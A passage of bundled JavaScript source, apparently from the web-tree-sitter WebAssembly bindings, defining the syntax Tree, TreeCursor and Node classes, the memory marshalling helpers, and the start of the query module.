   * You must describe the edit both in terms of byte offsets and in terms of
   * row/column coordinates.
   */
  edit(edit) {
    marshalEdit(edit);
    C._ts_tree_edit_wasm(this[0]);
  }
  /** Create a new {@link TreeCursor} starting from the root of the tree. */
  walk() {
    return this.rootNode.walk();
  }
  /**
   * Compare this old edited syntax tree to a new syntax tree representing
   * the same document, returning a sequence of ranges whose syntactic
   * structure has changed.
   *
   * For this to work correctly, this syntax tree must have been edited such
   * that its ranges match up to the new tree. Generally, you'll want to
   * call this method right after calling one of the [`Parser::parse`]
   * functions. Call it on the old tree that was passed to parse, and
   * pass the new tree that was returned from `parse`.
   */
  getChangedRanges(other) {
    if (!(other instanceof _Tree)) {
      throw new TypeError("Argument must be a Tree");
    }
    C._ts_tree_get_changed_ranges_wasm(this[0], other[0]);
    const count = C.getValue(TRANSFER_BUFFER, "i32");
    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const result = new Array(count);
    if (count > 0) {
      let address = buffer;
      for (let i2 = 0; i2 < count; i2++) {
        result[i2] = unmarshalRange(address);
        address += SIZE_OF_RANGE;
      }
      C._free(buffer);
    }
    return result;
  }
  /** Get the included ranges that were used to parse the syntax tree. */
  getIncludedRanges() {
    C._ts_tree_included_ranges_wasm(this[0]);
    const count = C.getValue(TRANSFER_BUFFER, "i32");
    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const result = new Array(count);
    if (count > 0) {
      let address = buffer;
      for (let i2 = 0; i2 < count; i2++) {
        result[i2] = unmarshalRange(address);
        address += SIZE_OF_RANGE;
      }
      C._free(buffer);
    }
    return result;
  }
};

// src/tree_cursor.ts
var TreeCursor = class _TreeCursor {
  static {
    __name(this, "TreeCursor");
  }
  /** @internal */
  // @ts-expect-error: never read
  [0] = 0;
  // Internal handle for Wasm
  /** @internal */
  // @ts-expect-error: never read
  [1] = 0;
  // Internal handle for Wasm
  /** @internal */
  // @ts-expect-error: never read
  [2] = 0;
  // Internal handle for Wasm
  /** @internal */
  // @ts-expect-error: never read
  [3] = 0;
  // Internal handle for Wasm
  /** @internal */
  tree;
  /** @internal */
  constructor(internal, tree) {
    assertInternal(internal);
    this.tree = tree;
    unmarshalTreeCursor(this);
  }
  /** Creates a deep copy of the tree cursor. This allocates new memory. */
  copy() {
    const copy = new _TreeCursor(INTERNAL, this.tree);
    C._ts_tree_cursor_copy_wasm(this.tree[0]);
    unmarshalTreeCursor(copy);
    return copy;
  }
  /** Delete the tree cursor, freeing its resources. */
  delete() {
    marshalTreeCursor(this);
    C._ts_tree_cursor_delete_wasm(this.tree[0]);
    this[0] = this[1] = this[2] = 0;
  }
  /** Get the tree cursor's current {@link Node}. */
  get currentNode() {
    marshalTreeCursor(this);
    C._ts_tree_cursor_current_node_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /**
   * Get the numerical field id of this tree cursor's current node.
   *
   * See also {@link TreeCursor#currentFieldName}.
   */
  get currentFieldId() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_field_id_wasm(this.tree[0]);
  }
  /** Get the field name of this tree cursor's current node. */
  get currentFieldName() {
    return this.tree.language.fields[this.currentFieldId];
  }
  /**
   * Get the depth of the cursor's current node relative to the original
   * node that the cursor was constructed with.
   */
  get currentDepth() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_depth_wasm(this.tree[0]);
  }
  /**
   * Get the index of the cursor's current node out of all of the
   * descendants of the original node that the cursor was constructed with.
   */
  get currentDescendantIndex() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_descendant_index_wasm(this.tree[0]);
  }
  /** Get the type of the cursor's current node. */
  get nodeType() {
    return this.tree.language.types[this.nodeTypeId] || "ERROR";
  }
  /** Get the type id of the cursor's current node. */
  get nodeTypeId() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_node_type_id_wasm(this.tree[0]);
  }
  /** Get the state id of the cursor's current node. */
  get nodeStateId() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_node_state_id_wasm(this.tree[0]);
  }
  /** Get the id of the cursor's current node. */
  get nodeId() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_node_id_wasm(this.tree[0]);
  }
  /**
   * Check if the cursor's current node is *named*.
   *
   * Named nodes correspond to named rules in the grammar, whereas
   * *anonymous* nodes correspond to string literals in the grammar.
   */
  get nodeIsNamed() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_node_is_named_wasm(this.tree[0]) === 1;
  }
  /**
   * Check if the cursor's current node is *missing*.
   *
   * Missing nodes are inserted by the parser in order to recover from
   * certain kinds of syntax errors.
   */
  get nodeIsMissing() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_current_node_is_missing_wasm(this.tree[0]) === 1;
  }
  /** Get the string content of the cursor's current node. */
  get nodeText() {
    marshalTreeCursor(this);
    const startIndex = C._ts_tree_cursor_start_index_wasm(this.tree[0]);
    const endIndex = C._ts_tree_cursor_end_index_wasm(this.tree[0]);
    C._ts_tree_cursor_start_position_wasm(this.tree[0]);
    const startPosition = unmarshalPoint(TRANSFER_BUFFER);
    return getText(this.tree, startIndex, endIndex, startPosition);
  }
  /** Get the start position of the cursor's current node. */
  get startPosition() {
    marshalTreeCursor(this);
    C._ts_tree_cursor_start_position_wasm(this.tree[0]);
    return unmarshalPoint(TRANSFER_BUFFER);
  }
  /** Get the end position of the cursor's current node. */
  get endPosition() {
    marshalTreeCursor(this);
    C._ts_tree_cursor_end_position_wasm(this.tree[0]);
    return unmarshalPoint(TRANSFER_BUFFER);
  }
  /** Get the start index of the cursor's current node. */
  get startIndex() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_start_index_wasm(this.tree[0]);
  }
  /** Get the end index of the cursor's current node. */
  get endIndex() {
    marshalTreeCursor(this);
    return C._ts_tree_cursor_end_index_wasm(this.tree[0]);
  }
  /**
   * Move this cursor to the first child of its current node.
   *
   * This returns `true` if the cursor successfully moved, and returns
   * `false` if there were no children.
   */
  gotoFirstChild() {
    marshalTreeCursor(this);
    const result = C._ts_tree_cursor_goto_first_child_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
    return result === 1;
  }
  /**
   * Move this cursor to the last child of its current node.
   *
   * This returns `true` if the cursor successfully moved, and returns
   * `false` if there were no children.
   *
   * Note that this function may be slower than
   * {@link TreeCursor#gotoFirstChild} because it needs to
   * iterate through all the children to compute the child's position.
   */
  gotoLastChild() {
    marshalTreeCursor(this);
    const result = C._ts_tree_cursor_goto_last_child_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
    return result === 1;
  }
  /**
   * Move this cursor to the parent of its current node.
   *
   * This returns `true` if the cursor successfully moved, and returns
   * `false` if there was no parent node (the cursor was already on the
   * root node).
   *
   * Note that the node the cursor was constructed with is considered the root
   * of the cursor, and the cursor cannot walk outside this node.
   */
  gotoParent() {
    marshalTreeCursor(this);
    const result = C._ts_tree_cursor_goto_parent_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
    return result === 1;
  }
  /**
   * Move this cursor to the next sibling of its current node.
   *
   * This returns `true` if the cursor successfully moved, and returns
   * `false` if there was no next sibling node.
   *
   * Note that the node the cursor was constructed with is considered the root
   * of the cursor, and the cursor cannot walk outside this node.
   */
  gotoNextSibling() {
    marshalTreeCursor(this);
    const result = C._ts_tree_cursor_goto_next_sibling_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
    return result === 1;
  }
  /**
   * Move this cursor to the previous sibling of its current node.
   *
   * This returns `true` if the cursor successfully moved, and returns
   * `false` if there was no previous sibling node.
   *
   * Note that this function may be slower than
   * {@link TreeCursor#gotoNextSibling} due to how node
   * positions are stored. In the worst case, this will need to iterate
   * through all the children up to the previous sibling node to recalculate
   * its position. Also note that the node the cursor was constructed with is
   * considered the root of the cursor, and the cursor cannot walk outside this node.
   */
  gotoPreviousSibling() {
    marshalTreeCursor(this);
    const result = C._ts_tree_cursor_goto_previous_sibling_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
    return result === 1;
  }
  /**
   * Move the cursor to the node that is the nth descendant of
   * the original node that the cursor was constructed with, where
   * zero represents the original node itself.
   */
  gotoDescendant(goalDescendantIndex) {
    marshalTreeCursor(this);
    C._ts_tree_cursor_goto_descendant_wasm(this.tree[0], goalDescendantIndex);
    unmarshalTreeCursor(this);
  }
  /**
   * Move this cursor to the first child of its current node that contains or
   * starts after the given byte offset.
   *
   * This returns `true` if the cursor successfully moved to a child node, and returns
   * `false` if no such child was found.
   */
  gotoFirstChildForIndex(goalIndex) {
    marshalTreeCursor(this);
    C.setValue(TRANSFER_BUFFER + SIZE_OF_CURSOR, goalIndex, "i32");
    const result = C._ts_tree_cursor_goto_first_child_for_index_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
    return result === 1;
  }
  /**
   * Move this cursor to the first child of its current node that contains or
   * starts after the given byte offset.
   *
   * This returns the index of the child node if one was found, and returns
   * `null` if no such child was found.
   */
  gotoFirstChildForPosition(goalPosition) {
    marshalTreeCursor(this);
    marshalPoint(TRANSFER_BUFFER + SIZE_OF_CURSOR, goalPosition);
    const result = C._ts_tree_cursor_goto_first_child_for_position_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
    return result === 1;
  }
  /**
   * Re-initialize this tree cursor to start at the original node that the
   * cursor was constructed with.
   */
  reset(node) {
    marshalNode(node);
    marshalTreeCursor(this, TRANSFER_BUFFER + SIZE_OF_NODE);
    C._ts_tree_cursor_reset_wasm(this.tree[0]);
    unmarshalTreeCursor(this);
  }
  /**
   * Re-initialize a tree cursor to the same position as another cursor.
   *
   * Unlike {@link TreeCursor#reset}, this will not lose parent
   * information and allows reusing already created cursors.
   */
  resetTo(cursor) {
    marshalTreeCursor(this, TRANSFER_BUFFER);
    marshalTreeCursor(cursor, TRANSFER_BUFFER + SIZE_OF_CURSOR);
    C._ts_tree_cursor_reset_to_wasm(this.tree[0], cursor.tree[0]);
    unmarshalTreeCursor(this);
  }
};

// src/node.ts
var Node = class {
  static {
    __name(this, "Node");
  }
  /** @internal */
  // @ts-expect-error: never read
  [0] = 0;
  // Internal handle for Wasm
  /** @internal */
  _children;
  /** @internal */
  _namedChildren;
  /** @internal */
  constructor(internal, {
    id,
    tree,
    startIndex,
    startPosition,
    other
  }) {
    assertInternal(internal);
    this[0] = other;
    this.id = id;
    this.tree = tree;
    this.startIndex = startIndex;
    this.startPosition = startPosition;
  }
  /**
   * The numeric id for this node that is unique.
   *
   * Within a given syntax tree, no two nodes have the same id. However:
   *
   * * If a new tree is created based on an older tree, and a node from the old tree is reused in
   *   the process, then that node will have the same id in both trees.
   *
   * * A node not marked as having changes does not guarantee it was reused.
   *
   * * If a node is marked as having changed in the old tree, it will not be reused.
   */
  id;
  /** The byte index where this node starts. */
  startIndex;
  /** The position where this node starts. */
  startPosition;
  /** The tree that this node belongs to. */
  tree;
  /** Get this node's type as a numerical id. */
  get typeId() {
    marshalNode(this);
    return C._ts_node_symbol_wasm(this.tree[0]);
  }
  /**
   * Get the node's type as a numerical id as it appears in the grammar,
   * ignoring aliases.
   */
  get grammarId() {
    marshalNode(this);
    return C._ts_node_grammar_symbol_wasm(this.tree[0]);
  }
  /** Get this node's type as a string. */
  get type() {
    return this.tree.language.types[this.typeId] || "ERROR";
  }
  /**
   * Get this node's symbol name as it appears in the grammar, ignoring
   * aliases as a string.
   */
  get grammarType() {
    return this.tree.language.types[this.grammarId] || "ERROR";
  }
  /**
   * Check if this node is *named*.
   *
   * Named nodes correspond to named rules in the grammar, whereas
   * *anonymous* nodes correspond to string literals in the grammar.
   */
  get isNamed() {
    marshalNode(this);
    return C._ts_node_is_named_wasm(this.tree[0]) === 1;
  }
  /**
   * Check if this node is *extra*.
   *
   * Extra nodes represent things like comments, which are not required
   * by the grammar, but can appear anywhere.
   */
  get isExtra() {
    marshalNode(this);
    return C._ts_node_is_extra_wasm(this.tree[0]) === 1;
  }
  /**
   * Check if this node represents a syntax error.
   *
   * Syntax errors represent parts of the code that could not be incorporated
   * into a valid syntax tree.
   */
  get isError() {
    marshalNode(this);
    return C._ts_node_is_error_wasm(this.tree[0]) === 1;
  }
  /**
   * Check if this node is *missing*.
   *
   * Missing nodes are inserted by the parser in order to recover from
   * certain kinds of syntax errors.
   */
  get isMissing() {
    marshalNode(this);
    return C._ts_node_is_missing_wasm(this.tree[0]) === 1;
  }
  /** Check if this node has been edited. */
  get hasChanges() {
    marshalNode(this);
    return C._ts_node_has_changes_wasm(this.tree[0]) === 1;
  }
  /**
   * Check if this node represents a syntax error or contains any syntax
   * errors anywhere within it.
   */
  get hasError() {
    marshalNode(this);
    return C._ts_node_has_error_wasm(this.tree[0]) === 1;
  }
  /** Get the byte index where this node ends. */
  get endIndex() {
    marshalNode(this);
    return C._ts_node_end_index_wasm(this.tree[0]);
  }
  /** Get the position where this node ends. */
  get endPosition() {
    marshalNode(this);
    C._ts_node_end_point_wasm(this.tree[0]);
    return unmarshalPoint(TRANSFER_BUFFER);
  }
  /** Get the string content of this node. */
  get text() {
    return getText(this.tree, this.startIndex, this.endIndex, this.startPosition);
  }
  /** Get this node's parse state. */
  get parseState() {
    marshalNode(this);
    return C._ts_node_parse_state_wasm(this.tree[0]);
  }
  /** Get the parse state after this node. */
  get nextParseState() {
    marshalNode(this);
    return C._ts_node_next_parse_state_wasm(this.tree[0]);
  }
  /** Check if this node is equal to another node. */
  equals(other) {
    return this.tree === other.tree && this.id === other.id;
  }
  /**
   * Get the node's child at the given index, where zero represents the first child.
   *
   * This method is fairly fast, but its cost is technically log(n), so if
   * you might be iterating over a long list of children, you should use
   * {@link Node#children} instead.
   */
  child(index) {
    marshalNode(this);
    C._ts_node_child_wasm(this.tree[0], index);
    return unmarshalNode(this.tree);
  }
  /**
   * Get this node's *named* child at the given index.
   *
   * See also {@link Node#isNamed}.
   * This method is fairly fast, but its cost is technically log(n), so if
   * you might be iterating over a long list of children, you should use
   * {@link Node#namedChildren} instead.
   */
  namedChild(index) {
    marshalNode(this);
    C._ts_node_named_child_wasm(this.tree[0], index);
    return unmarshalNode(this.tree);
  }
  /**
   * Get this node's child with the given numerical field id.
   *
   * See also {@link Node#childForFieldName}. You can
   * convert a field name to an id using {@link Language#fieldIdForName}.
   */
  childForFieldId(fieldId) {
    marshalNode(this);
    C._ts_node_child_by_field_id_wasm(this.tree[0], fieldId);
    return unmarshalNode(this.tree);
  }
  /**
   * Get the first child with the given field name.
   *
   * If multiple children may have the same field name, access them using
   * {@link Node#childrenForFieldName}.
   */
  childForFieldName(fieldName) {
    const fieldId = this.tree.language.fields.indexOf(fieldName);
    if (fieldId !== -1) return this.childForFieldId(fieldId);
    return null;
  }
  /** Get the field name of this node's child at the given index. */
  fieldNameForChild(index) {
    marshalNode(this);
    const address = C._ts_node_field_name_for_child_wasm(this.tree[0], index);
    if (!address) return null;
    return C.AsciiToString(address);
  }
  /** Get the field name of this node's named child at the given index. */
  fieldNameForNamedChild(index) {
    marshalNode(this);
    const address = C._ts_node_field_name_for_named_child_wasm(this.tree[0], index);
    if (!address) return null;
    return C.AsciiToString(address);
  }
  /**
   * Get an array of this node's children with a given field name.
   *
   * See also {@link Node#children}.
   */
  childrenForFieldName(fieldName) {
    const fieldId = this.tree.language.fields.indexOf(fieldName);
    if (fieldId !== -1 && fieldId !== 0) return this.childrenForFieldId(fieldId);
    return [];
  }
  /**
    * Get an array of this node's children with a given field id.
    *
    * See also {@link Node#childrenForFieldName}.
    */
  childrenForFieldId(fieldId) {
    marshalNode(this);
    C._ts_node_children_by_field_id_wasm(this.tree[0], fieldId);
    const count = C.getValue(TRANSFER_BUFFER, "i32");
    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const result = new Array(count);
    if (count > 0) {
      let address = buffer;
      for (let i2 = 0; i2 < count; i2++) {
        result[i2] = unmarshalNode(this.tree, address);
        address += SIZE_OF_NODE;
      }
      C._free(buffer);
    }
    return result;
  }
  /** Get the node's first child that contains or starts after the given byte offset. */
  firstChildForIndex(index) {
    marshalNode(this);
    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
    C.setValue(address, index, "i32");
    C._ts_node_first_child_for_byte_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get the node's first named child that contains or starts after the given byte offset. */
  firstNamedChildForIndex(index) {
    marshalNode(this);
    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
    C.setValue(address, index, "i32");
    C._ts_node_first_named_child_for_byte_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get this node's number of children. */
  get childCount() {
    marshalNode(this);
    return C._ts_node_child_count_wasm(this.tree[0]);
  }
  /**
   * Get this node's number of *named* children.
   *
   * See also {@link Node#isNamed}.
   */
  get namedChildCount() {
    marshalNode(this);
    return C._ts_node_named_child_count_wasm(this.tree[0]);
  }
  /** Get this node's first child. */
  get firstChild() {
    return this.child(0);
  }
  /**
   * Get this node's first named child.
   *
   * See also {@link Node#isNamed}.
   */
  get firstNamedChild() {
    return this.namedChild(0);
  }
  /** Get this node's last child. */
  get lastChild() {
    return this.child(this.childCount - 1);
  }
  /**
   * Get this node's last named child.
   *
   * See also {@link Node#isNamed}.
   */
  get lastNamedChild() {
    return this.namedChild(this.namedChildCount - 1);
  }
  /**
   * Iterate over this node's children.
   *
   * If you're walking the tree recursively, you may want to use the
   * {@link TreeCursor} APIs directly instead.
   */
  get children() {
    if (!this._children) {
      marshalNode(this);
      C._ts_node_children_wasm(this.tree[0]);
      const count = C.getValue(TRANSFER_BUFFER, "i32");
      const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
      this._children = new Array(count);
      if (count > 0) {
        let address = buffer;
        for (let i2 = 0; i2 < count; i2++) {
          this._children[i2] = unmarshalNode(this.tree, address);
          address += SIZE_OF_NODE;
        }
        C._free(buffer);
      }
    }
    return this._children;
  }
  /**
   * Iterate over this node's named children.
   *
   * See also {@link Node#children}.
   */
  get namedChildren() {
    if (!this._namedChildren) {
      marshalNode(this);
      C._ts_node_named_children_wasm(this.tree[0]);
      const count = C.getValue(TRANSFER_BUFFER, "i32");
      const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
      this._namedChildren = new Array(count);
      if (count > 0) {
        let address = buffer;
        for (let i2 = 0; i2 < count; i2++) {
          this._namedChildren[i2] = unmarshalNode(this.tree, address);
          address += SIZE_OF_NODE;
        }
        C._free(buffer);
      }
    }
    return this._namedChildren;
  }
  /**
   * Get the descendants of this node that are the given type, or in the given types array.
   *
   * The types array should contain node type strings, which can be retrieved from {@link Language#types}.
   *
   * Additionally, a `startPosition` and `endPosition` can be passed in to restrict the search to a byte range.
   */
  descendantsOfType(types, startPosition = ZERO_POINT, endPosition = ZERO_POINT) {
    if (!Array.isArray(types)) types = [types];
    const symbols = [];
    const typesBySymbol = this.tree.language.types;
    for (const node_type of types) {
      if (node_type == "ERROR") {
        symbols.push(65535);
      }
    }
    for (let i2 = 0, n = typesBySymbol.length; i2 < n; i2++) {
      if (types.includes(typesBySymbol[i2])) {
        symbols.push(i2);
      }
    }
    const symbolsAddress = C._malloc(SIZE_OF_INT * symbols.length);
    for (let i2 = 0, n = symbols.length; i2 < n; i2++) {
      C.setValue(symbolsAddress + i2 * SIZE_OF_INT, symbols[i2], "i32");
    }
    marshalNode(this);
    C._ts_node_descendants_of_type_wasm(
      this.tree[0],
      symbolsAddress,
      symbols.length,
      startPosition.row,
      startPosition.column,
      endPosition.row,
      endPosition.column
    );
    const descendantCount = C.getValue(TRANSFER_BUFFER, "i32");
    const descendantAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const result = new Array(descendantCount);
    if (descendantCount > 0) {
      let address = descendantAddress;
      for (let i2 = 0; i2 < descendantCount; i2++) {
        result[i2] = unmarshalNode(this.tree, address);
        address += SIZE_OF_NODE;
      }
    }
    C._free(descendantAddress);
    C._free(symbolsAddress);
    return result;
  }
  /** Get this node's next sibling. */
  get nextSibling() {
    marshalNode(this);
    C._ts_node_next_sibling_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get this node's previous sibling. */
  get previousSibling() {
    marshalNode(this);
    C._ts_node_prev_sibling_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /**
   * Get this node's next *named* sibling.
   *
   * See also {@link Node#isNamed}.
   */
  get nextNamedSibling() {
    marshalNode(this);
    C._ts_node_next_named_sibling_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /**
   * Get this node's previous *named* sibling.
   *
   * See also {@link Node#isNamed}.
   */
  get previousNamedSibling() {
    marshalNode(this);
    C._ts_node_prev_named_sibling_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get the node's number of descendants, including one for the node itself. */
  get descendantCount() {
    marshalNode(this);
    return C._ts_node_descendant_count_wasm(this.tree[0]);
  }
  /**
   * Get this node's immediate parent.
   * Prefer {@link Node#childWithDescendant} for iterating over this node's ancestors.
   */
  get parent() {
    marshalNode(this);
    C._ts_node_parent_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /**
   * Get the node that contains `descendant`.
   *
   * Note that this can return `descendant` itself.
   */
  childWithDescendant(descendant) {
    marshalNode(this);
    marshalNode(descendant, 1);
    C._ts_node_child_with_descendant_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get the smallest node within this node that spans the given byte range. */
  descendantForIndex(start2, end = start2) {
    if (typeof start2 !== "number" || typeof end !== "number") {
      throw new Error("Arguments must be numbers");
    }
    marshalNode(this);
    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
    C.setValue(address, start2, "i32");
    C.setValue(address + SIZE_OF_INT, end, "i32");
    C._ts_node_descendant_for_index_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get the smallest named node within this node that spans the given byte range. */
  namedDescendantForIndex(start2, end = start2) {
    if (typeof start2 !== "number" || typeof end !== "number") {
      throw new Error("Arguments must be numbers");
    }
    marshalNode(this);
    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
    C.setValue(address, start2, "i32");
    C.setValue(address + SIZE_OF_INT, end, "i32");
    C._ts_node_named_descendant_for_index_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get the smallest node within this node that spans the given point range. */
  descendantForPosition(start2, end = start2) {
    if (!isPoint(start2) || !isPoint(end)) {
      throw new Error("Arguments must be {row, column} objects");
    }
    marshalNode(this);
    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
    marshalPoint(address, start2);
    marshalPoint(address + SIZE_OF_POINT, end);
    C._ts_node_descendant_for_position_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get the smallest named node within this node that spans the given point range. */
  namedDescendantForPosition(start2, end = start2) {
    if (!isPoint(start2) || !isPoint(end)) {
      throw new Error("Arguments must be {row, column} objects");
    }
    marshalNode(this);
    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
    marshalPoint(address, start2);
    marshalPoint(address + SIZE_OF_POINT, end);
    C._ts_node_named_descendant_for_position_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /**
   * Create a new {@link TreeCursor} starting from this node.
   *
   * Note that the given node is considered the root of the cursor,
   * and the cursor cannot walk outside this node.
   */
  walk() {
    marshalNode(this);
    C._ts_tree_cursor_new_wasm(this.tree[0]);
    return new TreeCursor(INTERNAL, this.tree);
  }
  /**
   * Edit this node to keep it in-sync with source code that has been edited.
   *
   * This function is only rarely needed. When you edit a syntax tree with
   * the {@link Tree#edit} method, all of the nodes that you retrieve from
   * the tree afterward will already reflect the edit. You only need to
   * use {@link Node#edit} when you have a specific {@link Node} instance that
   * you want to keep and continue to use after an edit.
   */
  edit(edit) {
    if (this.startIndex >= edit.oldEndIndex) {
      this.startIndex = edit.newEndIndex + (this.startIndex - edit.oldEndIndex);
      let subbedPointRow;
      let subbedPointColumn;
      if (this.startPosition.row > edit.oldEndPosition.row) {
        subbedPointRow = this.startPosition.row - edit.oldEndPosition.row;
        subbedPointColumn = this.startPosition.column;
      } else {
        subbedPointRow = 0;
        subbedPointColumn = this.startPosition.column;
        if (this.startPosition.column >= edit.oldEndPosition.column) {
          subbedPointColumn = this.startPosition.column - edit.oldEndPosition.column;
        }
      }
      if (subbedPointRow > 0) {
        this.startPosition.row += subbedPointRow;
        this.startPosition.column = subbedPointColumn;
      } else {
        this.startPosition.column += subbedPointColumn;
      }
    } else if (this.startIndex > edit.startIndex) {
      this.startIndex = edit.newEndIndex;
      this.startPosition.row = edit.newEndPosition.row;
      this.startPosition.column = edit.newEndPosition.column;
    }
  }
  /** Get the S-expression representation of this node. */
  toString() {
    marshalNode(this);
    const address = C._ts_node_to_string_wasm(this.tree[0]);
    const result = C.AsciiToString(address);
    C._free(address);
    return result;
  }
};

// src/marshal.ts
function unmarshalCaptures(query, tree, address, patternIndex, result) {
  for (let i2 = 0, n = result.length; i2 < n; i2++) {
    const captureIndex = C.getValue(address, "i32");
    address += SIZE_OF_INT;
    const node = unmarshalNode(tree, address);
    address += SIZE_OF_NODE;
    result[i2] = { patternIndex, name: query.captureNames[captureIndex], node };
  }
  return address;
}
__name(unmarshalCaptures, "unmarshalCaptures");
function marshalNode(node, index = 0) {
  let address = TRANSFER_BUFFER + index * SIZE_OF_NODE;
  C.setValue(address, node.id, "i32");
  address += SIZE_OF_INT;
  C.setValue(address, node.startIndex, "i32");
  address += SIZE_OF_INT;
  C.setValue(address, node.startPosition.row, "i32");
  address += SIZE_OF_INT;
  C.setValue(address, node.startPosition.column, "i32");
  address += SIZE_OF_INT;
  C.setValue(address, node[0], "i32");
}
__name(marshalNode, "marshalNode");
function unmarshalNode(tree, address = TRANSFER_BUFFER) {
  const id = C.getValue(address, "i32");
  address += SIZE_OF_INT;
  if (id === 0) return null;
  const index = C.getValue(address, "i32");
  address += SIZE_OF_INT;
  const row = C.getValue(address, "i32");
  address += SIZE_OF_INT;
  const column = C.getValue(address, "i32");
  address += SIZE_OF_INT;
  const other = C.getValue(address, "i32");
  const result = new Node(INTERNAL, {
    id,
    tree,
    startIndex: index,
    startPosition: { row, column },
    other
  });
  return result;
}
__name(unmarshalNode, "unmarshalNode");
function marshalTreeCursor(cursor, address = TRANSFER_BUFFER) {
  C.setValue(address + 0 * SIZE_OF_INT, cursor[0], "i32");
  C.setValue(address + 1 * SIZE_OF_INT, cursor[1], "i32");
  C.setValue(address + 2 * SIZE_OF_INT, cursor[2], "i32");
  C.setValue(address + 3 * SIZE_OF_INT, cursor[3], "i32");
}
__name(marshalTreeCursor, "marshalTreeCursor");
function unmarshalTreeCursor(cursor) {
  cursor[0] = C.getValue(TRANSFER_BUFFER + 0 * SIZE_OF_INT, "i32");
  cursor[1] = C.getValue(TRANSFER_BUFFER + 1 * SIZE_OF_INT, "i32");
  cursor[2] = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
  cursor[3] = C.getValue(TRANSFER_BUFFER + 3 * SIZE_OF_INT, "i32");
}
__name(unmarshalTreeCursor, "unmarshalTreeCursor");
function marshalPoint(address, point) {
  C.setValue(address, point.row, "i32");
  C.setValue(address + SIZE_OF_INT, point.column, "i32");
}
__name(marshalPoint, "marshalPoint");
function unmarshalPoint(address) {
  const result = {
    row: C.getValue(address, "i32") >>> 0,
    column: C.getValue(address + SIZE_OF_INT, "i32") >>> 0
  };
  return result;
}
__name(unmarshalPoint, "unmarshalPoint");
function marshalRange(address, range) {
  marshalPoint(address, range.startPosition);
  address += SIZE_OF_POINT;
  marshalPoint(address, range.endPosition);
  address += SIZE_OF_POINT;
  C.setValue(address, range.startIndex, "i32");
  address += SIZE_OF_INT;
  C.setValue(address, range.endIndex, "i32");
  address += SIZE_OF_INT;
}
__name(marshalRange, "marshalRange");
function unmarshalRange(address) {
  const result = {};
  result.startPosition = unmarshalPoint(address);
  address += SIZE_OF_POINT;
  result.endPosition = unmarshalPoint(address);
  address += SIZE_OF_POINT;
  result.startIndex = C.getValue(address, "i32") >>> 0;
  address += SIZE_OF_INT;
  result.endIndex = C.getValue(address, "i32") >>> 0;
  return result;
}
__name(unmarshalRange, "unmarshalRange");
function marshalEdit(edit, address = TRANSFER_BUFFER) {
  marshalPoint(address, edit.startPosition);
  address += SIZE_OF_POINT;
  marshalPoint(address, edit.oldEndPosition);
  address += SIZE_OF_POINT;
  marshalPoint(address, edit.newEndPosition);
  address += SIZE_OF_POINT;
  C.setValue(address, edit.startIndex, "i32");
  address += SIZE_OF_INT;
  C.setValue(address, edit.oldEndIndex, "i32");
  address += SIZE_OF_INT;
  C.setValue(address, edit.newEndIndex, "i32");
  address += SIZE_OF_INT;
}
__name(marshalEdit, "marshalEdit");
function unmarshalLanguageMetadata(address) {
  const major_version = C.getValue(address, "i32");
  const minor_version = C.getValue(address += SIZE_OF_INT, "i32");
  const patch_version = C.getValue(address += SIZE_OF_INT, "i32");
  return { major_version, minor_version, patch_version };
}
__name(unmarshalLanguageMetadata, "unmarshalLanguageMetadata");

// src/query.ts
var PREDICATE_STEP_TYPE_CAPTURE = 1;
var PREDICATE_STEP_TYPE_STRING = 2;
var QUERY_WORD_REGEX = /[\w-]+/g;
var CaptureQuantifier = {
  Zero: 0,
  ZeroOrOne: 1,
  ZeroOrMore: 2,
  One: 3,
  OneOrMore: 4
};
var isCaptureStep = /* @__PURE__ */ __name((step) => step.type === "capture", "isCaptureStep");
var isStringStep = /* @__PURE__ */ __name((step) => step.type === "string", "isStringStep");
var QueryErrorKind = {
  Syntax: 1,
  NodeName: 2,
  FieldName: 3,
  CaptureName: 4,
  PatternStructure: 5
};
var QueryError = class _QueryError extends Error {
  constructor(kind, info2, index, length) {
    super(_QueryError.formatMessage(kind, info2));
